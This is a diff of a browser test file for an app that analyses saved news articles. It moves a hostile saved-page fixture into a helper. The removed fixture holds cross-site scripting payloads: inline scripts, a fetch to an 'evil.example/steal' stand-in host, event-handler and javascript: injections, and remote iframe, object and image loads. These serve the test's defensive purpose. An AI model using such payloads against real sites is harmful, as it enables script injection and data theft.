@@ -3,7 +3,7 @@
 // newer analysis superseding an older one.
 import assert from "node:assert/strict";
 import { after, before, test } from "node:test";
-import { analyse, cardNames, file, foreignRequests, launchBrowser, loadExample, openPage, serveWww, waitReady } from "./helpers.mjs";
+import { analyse, cardNames, file, foreignRequests, hostilePage, launchBrowser, loadExample, openPage, serveWww, waitReady } from "./helpers.mjs";
 
 let server;
 let browser;
@@ -30,15 +30,6 @@ const SAVED_PAGE = `<!doctype html><html><head><title>Envoys meet in Istanbul | 
 <p>The State Department said the talks focused on the operations of the two embassies, including visas for diplomats and banking.</p></article>
 <footer>Subscribe to our newsletter. Share this article.</footer></body></html>`;
 
-const HOSTILE_PAGE = `<!doctype html><html><head><title>Hostile page</title>
-<script>window.__xss = "head script"; fetch("http://evil.example/steal")</script>
-<meta http-equiv="refresh" content="0; url=http://evil.example/"><link rel="stylesheet" href="http://evil.example/x.css"></head>
-<body onload="window.__xss = 'onload'"><article><h1 onclick="window.__xss='h1'">Talks in Istanbul</h1>
-<p>${ARTICLE_A} <img src="http://evil.example/pixel.gif" onerror="window.__xss = 'img'"> More text about the embassy talks follows here for length.</p>
-<iframe src="http://evil.example/frame" onload="window.__xss='iframe'"></iframe><script>window.__xss = "body script"</script>
-<p>${ARTICLE_B} <a href="javascript:window.__xss='link'">click</a> <svg onload="window.__xss='svg'"><script>window.__xss='svg script'</script></svg></p>
-<object data="http://evil.example/obj"></object><embed src="http://evil.example/embed"><form action="http://evil.example/"><input autofocus onfocus="window.__xss='focus'"></form>
-</article></body></html>`;
 
 test("paste: several articles separated by --- become cards named Pasted text N", async () => {
   const { context, page, requests, errors } = await openPage(browser);
@@ -103,7 +94,7 @@ test("a hostile saved page (scripts, handlers, iframes, remote resources) runs a
   const { context, page, requests, errors } = await openPage(browser);
   await page.goto(`${server.origin}/`);
   await waitReady(page);
-  await page.setInputFiles("#files", [file("hostile.html", HOSTILE_PAGE, "text/html"), file("other.txt", ARTICLE_B)]);
+  await page.setInputFiles("#files", [file("hostile.html", hostilePage(ARTICLE_A, ARTICLE_B), "text/html"), file("other.txt", ARTICLE_B)]);
   await page.waitForSelector(".source-card >> nth=1");
   await analyse(page);
   await page.click("#tab-reader");
